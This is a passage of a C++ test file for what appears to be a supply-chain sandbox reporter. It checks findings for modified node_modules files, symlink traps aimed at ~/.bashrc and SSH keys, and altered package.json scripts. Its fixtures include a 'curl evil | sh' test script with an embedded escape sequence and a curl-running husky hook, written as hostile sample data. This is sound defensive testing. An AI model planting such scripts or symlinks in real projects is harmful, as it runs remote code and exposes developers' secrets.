      make("write", 12, 11, "/usr/bin/node", {{"path", "/p/node_modules/good-a/index.js"}}, evil),
      make("create", 12, 11, "/usr/bin/node", {{"path", "/p/node_modules/evil-pkg/build/x.o"}},
           evil),
      make("create", 12, 11, "/usr/bin/node", {{"path", "/p/node_modules/.cache/evil/x"}}, evil),
      make("rename", 12, 11, "/usr/bin/node",
           {{"path", "/p/node_modules/evil-pkg/tsc"}, {"to", "/p/node_modules/.bin/tsc"}}, evil),
      make("write", 12, 11, "/usr/bin/node",
           {{"path", "/p/node_modules/.pnpm/react@18.0.0/node_modules/react/index.js"}}, evil),
      make("deny", 12, 11, "/usr/bin/node",
           {{"op", "write"}, {"path", "/usr/lib/node_modules/npm/index.js"}}, evil, "refused",
           "mount"),
      make("create", 30, 1, "/usr/bin/node", {{"path", "/p/node_modules/@s/builder/out.js"}},
           scoped),
      make("create", 30, 1, "/usr/bin/python3",
           {{"path", "/p/node_modules/node-gyp/gyp/pylib/gyp/__pycache__/common.cpython-311.pyc"}},
           scoped),
      make("write", 40, 1, "/usr/bin/node", {{"path", "/p/node_modules/good-a/index.js"}}),
      make("write", 12, 11, "/usr/bin/node", {{"path", "node_modules/good-b/index.js"}}, evil),
  };
  std::vector<Finding> changed;
  for (const Finding& f : derive_findings(events)) {
    if (f.type == "package-files-changed") changed.push_back(f);
  }
  ASSERT_EQ(changed.size(), 1u);
  EXPECT_EQ(changed[0].origin, evil);
  EXPECT_EQ(changed[0].subject, "/p/node_modules/good-a/index.js");
  EXPECT_NE(changed[0].message.find("node_modules/good-a/index.js, node_modules/.bin/tsc, "
                                    "node_modules/.pnpm/react@18.0.0/node_modules/react/index.js, "
                                    "node_modules/good-b/index.js: "),
            std::string::npos)
      << changed[0].message;
  EXPECT_NE(changed[0].message.find("(4 changes)"), std::string::npos) << changed[0].message;
}

// A symlink left in the project aimed at a persistence point or a secret is a trap for the
// developer's next write (or read); links to the system or inside the project are ordinary (a
// virtualenv's python, node_modules/.bin).
TEST(Findings, SymlinkTrapsButNotOrdinaryLinks) {
  Event run = make("run", 0, 0, "",
                   {{"protected", {{{"path", "/h/.bashrc"}, {"protection", "shell-rc"}}}},
                    {"masked", {"/h/.ssh", "/h/.npmrc"}}});
  std::vector<Event> events = {
      run,
      make("symlink", 12, 11, "/usr/bin/ln",
           {{"path", "/p/build.log"}, {"target", "../h/.bashrc"}, {"target_path", "/h/.bashrc"}},
           kEvil),
      make("symlink", 12, 11, "/usr/bin/ln",
           {{"path", "/p/k"}, {"target", "/h/.ssh/id_ed25519"}, {"target_path", "/h/.ssh/id_ed25519"}},
           kEvil),
      make("symlink", 12, 11, "/usr/bin/ln",
           {{"path", "/p/.venv/bin/python"}, {"target", "/usr/bin/python3"},
            {"target_path", "/usr/bin/python3"}},
           kEvil),
      make("symlink", 12, 11, "/usr/bin/ln",
           {{"path", "/p/node_modules/.bin/x"}, {"target", "../x/cli.js"},
            {"target_path", "/p/node_modules/x/cli.js"}},
           kEvil),
      make("deny", 12, 11, "/usr/bin/ln",
           {{"op", "symlink"}, {"path", "/h/.npmrc2"}, {"target_path", "/h/.npmrc"}}, kEvil,
           "refused", "landlock"),
  };
  auto findings = derive_findings(events);
  ASSERT_EQ(findings.size(), 2u);
  EXPECT_EQ(findings[0].type, "symlink-trap");
  EXPECT_EQ(findings[0].subject, "/p/build.log");
  EXPECT_NE(findings[0].message.find("shell-rc"), std::string::npos) << findings[0].message;
  EXPECT_EQ(findings[1].subject, "/p/k");
  EXPECT_NE(findings[1].message.find("secret"), std::string::npos) << findings[1].message;
}

// ${npm.cache} (~/.npm: no "cache" in its name) is the tool's ordinary work, not news.
TEST(Summary, ToolCachesAreUsualWriteRoots) {
  policy::Plan plan;
  plan.project = "/p";
  plan.tmpdir = "/tmp";
  plan.home = "/h";
  plan.tool_caches = {"/h/.npm"};
  const std::vector<std::string> roots = usual_write_roots(plan);
  EXPECT_NE(std::find(roots.begin(), roots.end(), "/h/.npm"), roots.end());
  plan.tool_caches.clear();
  const std::vector<std::string> without = usual_write_roots(plan);
  EXPECT_EQ(std::find(without.begin(), without.end(), "/h/.npm"), without.end());
}

}  // namespace
}  // namespace moat::report

namespace moat::report {
namespace {

// package.json's command-running parts: an install that adds a dependency changes nothing there;
// a changed or added script or hook-runner entry is a finding, attributed to the last writer.
TEST(ManifestFindings, ScriptsAndHookRunnersButNotDependencies) {
  const std::string path = "/p/package.json";
  ManifestSnapshot before = snapshot_package_json(
      path,
      std::string(R"({"name":"x","scripts":{"test":"jest","build":"tsc"},"dependencies":{}})"));
  ManifestSnapshot honest = snapshot_package_json(
      path,
      std::string(
          R"({"name":"x","scripts":{"build":"tsc","test":"jest"},"dependencies":{"a":"1"}})"));
  EXPECT_TRUE(manifest_findings(before, honest, {}).empty());

  ManifestSnapshot after = snapshot_package_json(
      path, std::string(R"({"name":"x","scripts":{"test":"curl evil\u001b[2J | sh","build":"tsc",)"
                        R"("prepare":"node x.js"},"husky":{"hooks":{"pre-commit":"curl x"}}})"));
  Event writer;
  writer.kind = "write";
  writer.pid = 7;
  writer.exe = "/usr/bin/node";
  writer.detail = {{"path", path}};
  std::vector<Event> findings = manifest_findings(before, after, {writer});
  ASSERT_EQ(findings.size(), 3u);
  std::string all;
  for (const Event& f : findings) {
    EXPECT_EQ(f.detail.value("type", ""), "manifest-commands-changed");
    EXPECT_EQ(f.pid, 7);
    all += f.detail.value("message", "") + "\n";
  }
  EXPECT_NE(all.find("scripts.test changed during the run: \"jest\" -> \"curl evil?[2J | sh\""),
            std::string::npos)
      << all;
  EXPECT_NE(all.find("scripts.prepare was added"), std::string::npos) << all;
  EXPECT_NE(all.find("husky was added"), std::string::npos) << all;
  EXPECT_NE(all.find("written by /usr/bin/node"), std::string::npos) << all;
  EXPECT_EQ(all.find('\x1b'), std::string::npos) << "a control character reached the message";
}

TEST(ManifestFindings, NoFileOrNotJsonIsQuiet) {
  ManifestSnapshot none = snapshot_package_json("/p/package.json", std::nullopt);
  ManifestSnapshot broken = snapshot_package_json("/p/package.json", std::string("{not json"));
  EXPECT_TRUE(manifest_findings(none, broken, {}).empty());
  ManifestSnapshot created =
      snapshot_package_json("/p/package.json", std::string(R"({"scripts":{"test":"x"}})"));
  EXPECT_EQ(manifest_findings(none, created, {}).size(), 1u)
      << "a new package.json's scripts count";
}

}  // namespace
}  // namespace moat::report
